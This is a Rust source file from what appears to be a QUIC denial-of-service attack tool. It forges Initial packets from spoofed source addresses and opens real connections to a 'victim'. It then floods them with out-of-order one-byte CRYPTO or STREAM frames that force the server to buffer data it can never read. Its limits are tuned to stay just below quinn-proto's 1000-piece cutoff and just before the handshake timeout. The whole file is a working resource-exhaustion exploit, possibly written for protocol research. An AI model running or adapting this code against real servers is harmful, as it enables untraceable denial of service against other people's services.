//! Data in pieces of one byte, each with a gap behind it, repeatedly.

use std::{
    net::SocketAddrV4,
    time::{Duration, Instant},
};

use anyhow::Result;

use super::{
    Prepared, VICTIM,
    forger::{Forger, any_source},
    frames,
    initial::{self, Initials},
    peer::{self, Introduction, Peer},
    run::Run,
};
use crate::attack::catalogue::{Beside, Of, Size};

/// In Initial packets of this many handshakes at a time, from addresses that are not the
/// attacker's.
pub fn before_tls(handshakes: usize, size: Size, datagrams_each: Option<u32>) -> Result<Prepared> {
    let small = payloads(Of::Crypto, DATAGRAM - initial::OVERHEAD);
    let costly = payloads(Of::Crypto, length(size) - initial::OVERHEAD);
    let mut forger = Forger::new()?;
    Ok(Box::new(move |run| {
        let mut stalled = Vec::new();
        while run.goes_on() {
            for index in 0..handshakes {
                if index == stalled.len() {
                    stalled.push(Stalled::begin(run)?);
                }
                let handshake = &mut stalled[index];
                if handshake.is_worn(datagrams_each) {
                    *handshake = Stalled::begin(run)?;
                }
                // The first packet has to be small. It is repeated because it may be lost.
                let in_turn = handshake.sent as usize % (small.len() + IN_A_ROW);
                let payload = small
                    .get(in_turn)
                    .unwrap_or_else(|| &costly[in_turn % costly.len()]);
                handshake.send(run, &mut forger, payload)?;
                if !run.goes_on() {
                    break;
                }
            }
        }
        run.attacked.amplified = Some(forger.amplified(run.linger)?);
        Ok(Vec::new())
    }))
}

/// A handshake whose first byte never arrives.
struct Stalled {
    from: SocketAddrV4,
    initials: Initials,
    began: Instant,
    sent: u32,
}

impl Stalled {
    fn begin(run: &mut Run<'_>) -> Result<Self> {
        run.attacked.begun += 1;
        Ok(Self {
            from: any_source(),
            initials: Initials::begin()?,
            began: Instant::now(),
            sent: 0,
        })
    }

    fn is_worn(&self, datagrams_each: Option<u32>) -> bool {
        datagrams_each.is_some_and(|most| self.sent >= most) || self.began.elapsed() > HANDSHAKE
    }

    fn send(&mut self, run: &mut Run<'_>, forger: &mut Forger, payload: &[u8]) -> Result<()> {
        let datagram = self.initials.packet(payload, DATAGRAM)?;
        forger.send(self.from, &datagram)?;
        self.sent += 1;
        run.sent(1, datagram.len());
        Ok(())
    }
}

/// In 1-RTT packets of this many connections.
pub fn after_tls(of: Of, connections: usize, size: Size, beside: Beside) -> Result<Prepared> {
    let small = payloads(of, DATAGRAM - peer::OVERHEAD);
    let costly = payloads(of, length(size) - peer::OVERHEAD);
    let introduction = Introduction::of_a_peer(VICTIM)?;
    let begin = move || -> Result<Peer> {
        let mut peer = Peer::dial(&introduction)?;
        for payload in &small {
            let datagram = peer.packet(payload);
            peer.send(&datagram);
        }
        Ok(peer)
    };
    let peers: Result<Vec<_>> = (0..connections).map(|_| begin()).collect();
    let mut peers = peers?;
    Ok(Box::new(move |run| {
        run.attacked.begun = connections as u64;
        let mut costly = costly.iter().cycle();
        while let Some(payload) = costly.next().filter(|_| run.goes_on()) {
            for peer in &mut peers {
                peer.listen();
                if peer.is_closed {
                    run.attacked.ended += 1;
                    // The connection was refused; the next attempt may succeed.
                    let Ok(another) = begin() else {
                        continue;
                    };
                    run.attacked.begun += 1;
                    *peer = another;
                }
                send(run, peer, payload, beside);
                if !run.goes_on() {
                    break;
                }
            }
        }
        Ok(peers)
    }))
}

fn send(run: &mut Run<'_>, peer: &mut Peer, payload: &[u8], beside: Beside) {
    let datagram = peer.packet(payload);
    let length = datagram.len();
    let mut datagrams = vec![datagram];
    match beside {
        Beside::Nothing => {}
        Beside::Clean => datagrams.push(peer.padded(&[frames::PING], length)),
        Beside::Garbage => datagrams.extend((0..GARBAGE).map(|_| peer.garbage(length))),
    }
    for datagram in datagrams {
        peer.send(&datagram);
        run.sent(1, length);
    }
}

/// Frames with all pieces, repeatedly, in payloads of at most `room` bytes.
fn payloads(of: Of, room: usize) -> Vec<Vec<u8>> {
    let frame = |piece: u64| {
        let mut frame = Vec::new();
        // From offset 1 on, because data without its beginning is never read.
        let offset = 2 * piece + 1;
        match of {
            Of::Crypto => frames::crypto(&mut frame, offset, &[0]),
            Of::Stream => frames::stream(&mut frame, 0, offset, &[0]),
        }
        frame
    };
    let mut payloads = Vec::new();
    let mut frames = (0..PIECES).cycle().map(frame).peekable();
    let mut pieces = 0;
    while pieces < PIECES {
        let mut payload = Vec::new();
        while let Some(frame) = frames.next_if(|frame| payload.len() + frame.len() <= room) {
            payload.extend(frame);
            pieces += 1;
        }
        payloads.push(payload);
    }
    payloads
}

fn length(size: Size) -> usize {
    match size {
        Size::Small => DATAGRAM,
        Size::Large => LARGE_DATAGRAM,
    }
}

/// Fewer than quinn-proto's limit, at which it closes the connection.
const PIECES: u64 = 1000;

/// UDP payload of a packet on Ethernet, with IPv6.
pub const DATAGRAM: usize = 1452;

/// Less than the maximum of UDP over IPv4, and an arbitrary number.
pub const LARGE_DATAGRAM: usize = 65_000;

/// Shortly before the victim's timeout.
const HANDSHAKE: Duration = Duration::from_millis(4800);

/// Datagrams of a handshake of the largest size in a row, between small ones.
const IN_A_ROW: usize = 16;

/// Garbage datagrams for each costly one.
const GARBAGE: usize = 3;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn payloads_hold_every_piece() {
        for of in [Of::Crypto, Of::Stream] {
            let small = payloads(of, 1400);
            assert!((4..=5).contains(&small.len()));
            assert!(
                small
                    .iter()
                    .all(|payload| (1390..=1400).contains(&payload.len()))
            );
            let large = payloads(of, 64_000);
            assert_eq!(large.len(), 1);
            assert!(large[0].starts_with(&small[0]));
        }
    }
}
